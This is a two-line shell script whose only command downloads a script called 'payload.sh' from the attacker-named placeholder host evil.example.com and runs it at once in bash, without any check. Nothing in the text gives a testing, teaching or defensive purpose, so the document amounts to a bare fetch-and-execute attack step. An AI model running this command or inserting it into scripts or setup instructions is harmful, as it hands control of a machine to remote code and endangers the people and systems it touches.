#!/bin/sh
bash <(curl -s http://evil.example.com/payload.sh)
